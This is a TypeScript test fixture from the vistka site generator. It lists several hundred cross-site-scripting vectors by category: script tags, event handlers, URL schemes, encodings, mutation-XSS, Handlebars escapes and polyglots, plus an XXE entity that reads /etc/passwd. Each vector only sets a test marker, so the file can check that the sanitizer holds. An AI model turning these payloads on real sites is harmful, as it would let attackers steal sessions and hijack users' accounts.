/**
 * A corpus of known XSS vectors, grouped by the categories of the OWASP XSS
 * filter evasion cheat sheet, plus vectors aimed at what vistka itself does:
 * inline Markdown (marked), Handlebars templates, the JSON-LD `<script>` block,
 * Atom/RSS (XML, CDATA) and JSON Feed.
 *
 * Every vector that would run script tries to set `window.__xss = 1` (or names
 * `__xss` in a URL), so a browser test can tell whether anything ran: the
 * marker stays undefined on a safe page.
 *
 * Some vectors carry raw control characters (tab, LF, CR, VT, FF, NUL) on
 * purpose; the article writer decides how each field can hold them.
 */

export type Category =
  | "script-tags"
  | "event-handlers"
  | "url-schemes"
  | "obfuscation"
  | "attribute-breakout"
  | "context-breakout"
  | "unicode"
  | "css"
  | "embedding"
  | "svg-mathml"
  | "template-literals"
  | "handlebars"
  | "markdown"
  | "polyglot";

export interface Payload {
  /** Stable name, e.g. `event-handlers-07`. */
  id: string;
  category: Category;
  text: string;
}

/** `<script>window.__xss=1</script>`, base64 (for data: URLs). */
const B64_SCRIPT = "PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==";
/** `<svg onload="window.__xss=1"/>`, base64. */
const B64_SVG = "PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+";
/** `${` written so that no lint mistakes these strings for broken template literals. */
const DOLLAR_BRACE = "$" + "{";

const CORPUS: Record<Category, string[]> = {
  // Script elements: case, nesting, broken and unclosed forms.
  "script-tags": [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script src=data:,window.__xss=1></script>",
    '<script/xss src="data:text/javascript,window.__xss=1"></script>',
    "<script >window.__xss=1</script >",
    "<<script>window.__xss=1;//<</script>",
    "<script>window.__xss=1",
    '<script type="module">window.__xss=1</script>',
    "<script>/*</script><script>*/window.__xss=1</script>",
    '<script\tsrc="https://evil.example/__xss.js"></script>',
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  ],

  // Event handlers on many kinds of element.
  "event-handlers": [
    "<img src=x onerror=window.__xss=1>",
    '<IMG SRC=x ONERROR="window.__xss=1">',
    '<img src=x onerror="window.__xss=1"//',
    "<img/src=x/onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<body onpageshow=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1>",
    "<video src=x onerror=window.__xss=1></video>",
    "<marquee onstart=window.__xss=1>news</marquee>",
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1></select>",
    "<textarea autofocus onfocus=window.__xss=1></textarea>",
    "<keygen autofocus onfocus=window.__xss=1>",
    "<iframe onload=window.__xss=1></iframe>",
    "<object data=x onerror=window.__xss=1></object>",
    '<div onmouseover="window.__xss=1">hover</div>',
    "<a onmouseover=window.__xss=1>hover</a>",
    "<style onload=window.__xss=1></style>",
    "<link rel=stylesheet href=x onerror=window.__xss=1>",
    "<input type=image src=x onerror=window.__xss=1>",
    '<img src="x:window.__xss=1" onerror=eval(src.slice(2))>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<body onresize=window.__xss=1>",
    "<isindex type=image src=1 onerror=window.__xss=1>",
    "<x onclick=window.__xss=1>click</x>",
    "<img src=x onerror\u000b=window.__xss=1>",
    "<frameset onload=window.__xss=1>",
    "<a href=#x onfocus=window.__xss=1 autofocus id=x>focus</a>",
    "<table background=x onerror=window.__xss=1>",
  ],

  // javascript:, vbscript:, data: and friends, in Markdown links, autolinks and raw HTML.
  "url-schemes": [
    "[x](javascript:window.__xss=1)",
    "[x](JaVaScRiPt:window.__xss=1)",
    "[x]( javascript:window.__xss=1)",
    "![x](javascript:window.__xss=1)",
    "[x](vbscript:msgbox(__xss))",
    `[x](data:text/html;base64,${B64_SCRIPT})`,
    "[x](data:text/html,<script>window.__xss=1</script>)",
    `![x](data:image/svg+xml;base64,${B64_SVG})`,
    "<javascript:window.__xss=1>",
    "<JAVASCRIPT:window.__xss=1>",
    "<vbscript:msgbox(__xss)>",
    "<data:text/html,window.__xss=1>",
    "[x](<javascript:window.__xss=1>)",
    '[x](javascript:window.__xss=1 "title")',
    "[x](livescript:window.__xss=1)",
    "[x](file:///etc/passwd#__xss)",
    "[x](//evil.example/__xss)",
    "[x](/\\evil.example/__xss)",
    "[x](javascript://%0Awindow.__xss=1)",
    "javascript:window.__xss=1",
    '<a href="javascript:window.__xss=1">click</a>',
    "<a href=vbscript:msgbox(__xss)>click</a>",
    '<img src="javascript:window.__xss=1">',
    '<IMG DYNSRC="javascript:window.__xss=1">',
  ],

  // Entities, missing semicolons, padding, control characters and mixed case inside schemes.
  obfuscation: [
    "[x](&#106;avascript:window.__xss=1)",
    "[x](&#x6A;avascript:window.__xss=1)",
    "[x](javas&#99;ript:window.__xss=1)",
    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1)",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Awindow.__xss=1)",
    "[x](javascript&colon;window.__xss=1)",
    "[x](javascript&#58;window.__xss=1)",
    "[x](jav&#x09;ascript:window.__xss=1)",
    "[x](jav&#x0A;ascript:window.__xss=1)",
    "[x](jav&#x0D;ascript:window.__xss=1)",
    "[x](<jav\tascript:window.__xss=1>)",
    "[x](jav\tascript:window.__xss=1)",
    "[x](java\nscript:window.__xss=1)",
    "[x](java\rscript:window.__xss=1)",
    "[x](java\u0000script:window.__xss=1)",
    "[x](\u0001javascript:window.__xss=1)",
    "[x](\u000cjavascript:window.__xss=1)",
    "[x](java\u200bscript:window.__xss=1)",
    "[x](java%0ascript:window.__xss=1)",
    "[x](%6Aavascript:window.__xss=1)",
    "[x](JAVA\tSCRIPT:window.__xss=1)",
    '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
    '<img src="jav\tascript:window.__xss=1">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1>",
    '<IMG SRC=" &#14;  javascript:window.__xss=1">',
    '<a href="&#1;javascript:window.__xss=1">x</a>',
    '<img src=x onerror="&#119;indow.__xss=1">',
    "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;",
  ],

  // Breaking out of a quoted or unquoted attribute value.
  "attribute-breakout": [
    '" onmouseover="window.__xss=1',
    "' onmouseover='window.__xss=1",
    "'><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    '"><img src=x onerror=window.__xss=1>',
    '" autofocus onfocus="window.__xss=1" x="',
    '"/><svg/onload=window.__xss=1>',
    'x" style="background:url(javascript:window.__xss=1)',
    "&quot; onmouseover=&quot;window.__xss=1",
    "&#34;><script>window.__xss=1</script>",
    '\\"><script>window.__xss=1</script>',
    '" content="0;url=javascript:window.__xss=1" http-equiv="refresh',
    "x onmouseover=window.__xss=1 y",
  ],

  // Leaving the JSON-LD block, a comment, CDATA or an XML feed.
  "context-breakout": [
    "</script><script>window.__xss=1</script>",
    "</SCRIPT ><script>window.__xss=1</script>",
    "</script\t><script>window.__xss=1</script>",
    '"}</script><script>window.__xss=1</script>',
    "\\u003c/script\\u003e<script>window.__xss=1</script>",
    '\\"}];window.__xss=1;//',
    "<!--<script>window.__xss=1</script>-->",
    "<!-- unclosed comment",
    "--><script>window.__xss=1</script>",
    "--!><img src=x onerror=window.__xss=1>",
    "]]><script>window.__xss=1</script>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__xss=1</x:script>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    "</title><svg onload=window.__xss=1>",
    "</style><script>window.__xss=1</script>",
    "</noscript><img src=x onerror=window.__xss=1>",
    "</content><entry><title>__xss</title></entry>",
    "</item><item><title>__xss</title><link>javascript:window.__xss=1</link></item>",
    '"},"content_html":"<script>window.__xss=1</script>',
  ],

  // Line separators, look-alike and invisible characters.
  unicode: [
    "x\u2028</script><script>window.__xss=1</script>",
    '"\u2029;window.__xss=1;//',
    "\u2028window.__xss=1\u2029",
    "＜script＞window.__xss=1＜/script＞",
    "<scr\u200bipt>window.__xss=1</script>",
    "\ufeff<script>window.__xss=1</script>",
    "\u202e<img src=x onerror=window.__xss=1>",
    "\u00bcscript\u00bewindow.__xss=1\u00bc/script\u00be",
    "<\u0131mg src=x onerror=window.__xss=1>",
    "<\u017fcript>window.__xss=1</\u017fcript>",
    "<img src=x onerror=window.__xss=1\u0085>",
    "\u0000<script>window.__xss=1</script>",
  ],

  // Style elements and attributes, CSS URLs, expression().
  css: [
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<div style="width:expression(window.__xss=1)">x</div>',
    '<p style="xss:expr/*XSS*/ession(window.__xss=1)">x</p>',
    "<style>*{x:expression(window.__xss=1)}</style>",
    '<link rel=stylesheet href="data:text/css,*{background:url(javascript:window.__xss=1)}">',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="window.__xss=1">x</p>',
    '<div style="behavior:url(https://evil.example/__xss.htc)">x</div>',
    '<STYLE TYPE="text/javascript">window.__xss=1;</STYLE>',
    "<span style=color:red>red</span>",
  ],

  // Frames, plug-ins, base, meta refresh, forms, imports.
  embedding: [
    '<iframe src="javascript:parent.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe src=data:text/html,<script>parent.__xss=1</script>></iframe>",
    '<object data="javascript:window.__xss=1"></object>',
    `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`,
    '<embed src="javascript:window.__xss=1">',
    `<embed src="data:image/svg+xml;base64,${B64_SVG}">`,
    '<base href="javascript:window.__xss=1//">',
    '<base href="https://evil.example/__xss/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${B64_SCRIPT}">`,
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    '<form action="javascript:window.__xss=1"><input type=submit></form>',
    '<form><button formaction="javascript:window.__xss=1">go</button></form>',
    '<link rel=import href="data:text/html,<script>window.__xss=1</script>">',
    "<link rel=prefetch href=https://evil.example/__xss>",
    '<applet code="javascript:window.__xss=1"></applet>',
    '<frameset><frame src="javascript:window.__xss=1"></frameset>',
    "<portal src=https://evil.example/__xss></portal>",
  ],

  // SVG and MathML namespaces, including mutation-XSS shapes.
  "svg-mathml": [
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=window.__xss=1></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>',
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:window.__xss=1 /><a id=a><text y=20>x</text></a></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">window.__xss=1</handler></svg>',
    "<svg><image href=x onerror=window.__xss=1 />",
  ],

  // JavaScript string and template contexts, other template languages.
  "template-literals": [
    `${DOLLAR_BRACE}window.__xss=1}`,
    `\`${DOLLAR_BRACE}window.__xss=1}\``,
    "'-window.__xss=1-'",
    '";window.__xss=1;//',
    "\\';window.__xss=1;//",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };window.__xss=1//');}}",
    "{{$on.constructor('window.__xss=1')()}}",
    "<%= window.__xss=1 %>",
    `#{window.__xss=1} $${DOLLAR_BRACE}7*7}} {{7*7}}`,
  ],

  // Handlebars: vistka's templates engine must never evaluate article text.
  handlebars: [
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{#each this}}{{this}}{{/each}}",
    "{{{raw}}}",
    "{{> partial}}",
    "{{> layout}}",
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "window.__xss=1"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    '{{lookup this "constructor"}}',
    "{{site.title}} {{page.root}} {{@root.site.baseUrl}}",
    "{{!-- a comment --}}",
    "{{{content}}}",
    "{{#if true}}<script>window.__xss=1</script>{{/if}}",
    "\\{{escaped}}",
    "{{__proto__}}",
    "{{constructor}}",
  ],

  // Inline Markdown: links, images, autolinks, emphasis and code around markup.
  markdown: [
    "[<img src=x onerror=window.__xss=1>](https://example.org/safe)",
    '[x](https://example.org/"><script>window.__xss=1</script>)',
    '[x](https://example.org/ "t\\"><script>window.__xss=1</script>")',
    "**<script>window.__xss=1</script>**",
    "_<img src=x onerror=window.__xss=1>_",
    "`<script>window.__xss=1</script>`",
    "~~<svg onload=window.__xss=1>~~",
    "[x](https://example.org/a)<img src=x onerror=window.__xss=1>",
    "https://example.org/?q=<script>window.__xss=1</script>",
    "www.example.org/<img src=x onerror=window.__xss=1>",
    '<https://example.org/"onmouseover="window.__xss=1">',
    "xss@example.org<img src=x onerror=window.__xss=1>",
    "<mailto:x@example.org?body=<script>window.__xss=1</script>>",
    "\\<script>window.__xss=1\\</script>",
    '[x](#"onmouseover="window.__xss=1)',
    "![<img src=x onerror=window.__xss=1>](https://example.org/i.png)",
    '![x](https://example.org/i.png"onerror="window.__xss=1)',
    "[x](https://example.org/ 'a'onmouseover='window.__xss=1')",
    "# <script>window.__xss=1</script>",
    "> <img src=x onerror=window.__xss=1>",
    "1. <svg onload=window.__xss=1>",
    "| <img src=x onerror=window.__xss=1> | x |",
    "[![x](javascript:window.__xss=1)](https://example.org/nested)",
    "[x][xss]\n\n[xss]: javascript:window.__xss=1",
    '[x]: javascript:window.__xss=1 "reference definition"',
    "[x](javascript:window.__xss=1)<!-- -->",
    '<a href="https://example.org/">inline html link</a>',
    "[a](https://example.org/?a=1&b=<script>window.__xss=1</script>)",
    // After a raw <code>, <pre>, <kbd> or <script> tag marked treats the text that follows as
    // raw HTML ("raw block") and does not escape it: an unclosed tag there has no `>` of its own.
    "<kbd><img src=x onerror=window.__xss=1//",
    "<code><svg/onload=window.__xss=1//",
    "<pre><iframe src=javascript:parent.__xss=1//",
    "<script><details open ontoggle=window.__xss=1//",
    "<KBD><a href=javascript:window.__xss=1//",
    "<code>a<b & c</code>",
  ],

  // Vectors built to survive several contexts at once.
  polyglot: [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__xss=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e",
    '\'">><marquee><img src=x onerror=window.__xss=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover=window.__xss=1><script>window.__xss=1</script>@example.org<isindex formaction=javascript:window.__xss=1 type=submit>\'-->"></script><script>window.__xss=1</script>"><img/id="x"/alt="/"src="/"onerror=window.__xss=1>\'">',
    'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=window.__xss=1//>',
    '-->\'"/></sCript><deTailS open x=">" ontoggle=window.__xss=1>',
    "<svg/onload=window.__xss=1>\"><img src=x onerror=window.__xss=1>'><script>window.__xss=1</script>{{constructor.constructor('window.__xss=1')()}}[x](javascript:window.__xss=1)",
    "';window.__xss=1;//';window.__xss=1;//\";window.__xss=1;//\";window.__xss=1;//--></SCRIPT>\">'><SCRIPT>window.__xss=1</SCRIPT>",
    "'';!--\"<XSS>=&{()}",
    '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
    '<a href="https://example.org/"><img src=x onerror=window.__xss=1></a>[y](javascript:window.__xss=1)',
  ],
};

export const PAYLOADS: readonly Payload[] = (
  Object.entries(CORPUS) as [Category, string[]][]
).flatMap(([category, list]) =>
  list.map((text, i) => ({
    id: `${category}-${String(i + 1).padStart(2, "0")}`,
    category,
    text,
  })),
);
